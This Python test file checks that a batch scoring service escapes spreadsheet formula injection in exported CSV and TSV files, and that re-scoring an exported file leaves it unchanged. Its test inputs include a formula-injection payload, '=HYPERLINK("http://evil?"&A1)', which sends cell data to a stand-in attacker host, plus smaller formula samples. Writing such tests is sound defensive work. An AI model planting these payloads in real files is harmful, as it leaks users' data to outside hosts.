"""What a batch writes for a spreadsheet runs nothing there, and a file that was exported is read as it was before."""

from __future__ import annotations

import csv
from pathlib import Path

import pytest
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st

from models.scorer import Scorer
from service.batch.formats import DELIMITERS, Format
from service.batch.options import KEEP_EMPTY, BatchSpec, Options
from service.batch.results import ResultQuery, read_page
from service.batch.run import run

LINK = '=HYPERLINK("http://evil?"&A1)'
FIELDS = {"source_phenotype": "M2", "cargo_type": "mirna", "cargo_name": "miR-21-5p"}


def scored(scorer: Scorer, source: Path, target: Path, errors: Format = Format.CSV) -> list[dict[str, str]]:
    """The scores of a table, with all of its columns, as a spreadsheet takes them in."""
    form = Format(target.suffix[1:])
    options = Options(Format(source.suffix[1:]), form, errors, keep_columns=True, bad_rows=KEEP_EMPTY)
    run(scorer, BatchSpec(options, source, target, target.with_suffix(f".errors.{errors}")))
    with target.open(encoding="utf-8", newline="") as file:
        quoting = csv.QUOTE_MINIMAL if form is Format.CSV else csv.QUOTE_NONE
        return list(csv.DictReader(file, delimiter=DELIMITERS[form], quoting=quoting))


def write(path: Path, row: dict[str, str]) -> None:
    with path.open("w", encoding="utf-8", newline="") as file:
        writer = csv.DictWriter(file, row, lineterminator="\n")
        writer.writeheader()
        writer.writerow(row)


@pytest.mark.parametrize("form", [Format.CSV, Format.TSV])
def test_kept_columns_ids_and_names_of_columns_are_marked(scorer: Scorer, tmp_path: Path, form: Format) -> None:
    write(tmp_path / "in.csv", {"id": LINK, **FIELDS, "note": "@SUM(1)", "change": "-0.53", "-log10": "2", "=1+1": "x"})
    (row,) = scored(scorer, tmp_path / "in.csv", tmp_path / f"out.{form}")
    assert (row["id"], row["note"], row["change"]) == (f"'{LINK}", "'@SUM(1)", "-0.53")
    assert {"'-log10", "'=1+1"} < row.keys()
    assert read_page(tmp_path / f"out.{form}", form, ResultQuery()).rows[0]["id"] == LINK


@pytest.mark.parametrize("errors", [Format.CSV, Format.TSV])
def test_what_is_said_of_bad_rows_is_marked(scorer: Scorer, tmp_path: Path, errors: Format) -> None:
    write(tmp_path / "in.csv", {"id": "=1", **FIELDS, "source_phenotype": "=2+3"})
    scored(scorer, tmp_path / "in.csv", tmp_path / "out.csv", errors)
    told = (tmp_path / f"out.errors.{errors}").read_text("utf-8")
    assert (f"{DELIMITERS[errors]}'=1" in told, f"{DELIMITERS[errors]}'=2+3" in told) == (True, True)


@settings(suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(st.text(st.characters(exclude_categories=["Cs", "Cc"]), max_size=9) | st.text("'=+-@;1.", max_size=9))
@example("'=1")
@example("''-x;'=y")
def test_a_file_of_scores_can_be_scored_again_without_change(scorer: Scorer, tmp_path: Path, note: str) -> None:
    row = {"id": note, **FIELDS, "note": note, f"column {note}": "1", f"{note} column": "2"}
    write(tmp_path / "in.csv", row)
    (once,) = scored(scorer, tmp_path / "in.csv", tmp_path / "once.csv")
    write(tmp_path / "again.csv", {name: once[name] for name in list(once)[: len(row)]})
    (twice,) = scored(scorer, tmp_path / "again.csv", tmp_path / "twice.csv")
    # What was not marked when it came is marked only once, and what looked so lost that mark when it was read.
    assert twice == once
